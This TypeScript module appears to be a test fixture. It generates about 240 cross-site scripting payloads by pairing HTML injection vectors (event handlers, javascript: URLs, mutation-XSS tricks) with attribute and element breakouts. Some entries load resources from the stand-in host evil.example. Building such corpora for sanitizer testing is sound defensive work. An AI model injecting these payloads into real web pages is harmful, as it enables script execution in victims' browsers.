/** Ways into a page: what runs, what loads, what leaves its place. Each is a pattern with a mark for `alert(1)`. */
const VECTORS = [
  '<script>ALERT</script>',
  '<img src=x onerror=ALERT>',
  '<svg onload=ALERT>',
  '<svg><script xlink:href="data:,ALERT"></script></svg>',
  '<iframe srcdoc="<script>ALERT</script>">',
  '<a href="javascript:ALERT">x</a>',
  '<form action="javascript:ALERT"><button>x',
  '<meta http-equiv="refresh" content="0;url=javascript:ALERT">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<object data="javascript:ALERT"></object>',
  '<math><mtext><table><mglyph><style><img src=x onerror=ALERT>',
  '<details open ontoggle=ALERT>',
  '<body onload=ALERT>',
  '<noscript><p title="</noscript><img src=x onerror=ALERT>">',
  '<template><script>ALERT</script></template>',
  '<textarea></textarea><img src=x onerror=ALERT>',
  '<!--><img src=x onerror=ALERT>-->',
  '<![CDATA[<img src=x onerror=ALERT>]]>',
];

/** What a place in a template might be left with: the end of an attribute, an element, a comment, a style. */
const BREAKOUTS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`',
  '</title>',
  '</style>',
  '-->',
  '</td></tr></table>',
  ' autofocus onfocus=ALERT x="',
  '\u202e',
];

/** More than two hundred hostile texts. */
export const HOSTILE: readonly string[] = VECTORS.flatMap((vector, index) =>
  BREAKOUTS.map((breakout) => `${breakout}${vector}`.replaceAll('ALERT', `alert(${index})`)),
);
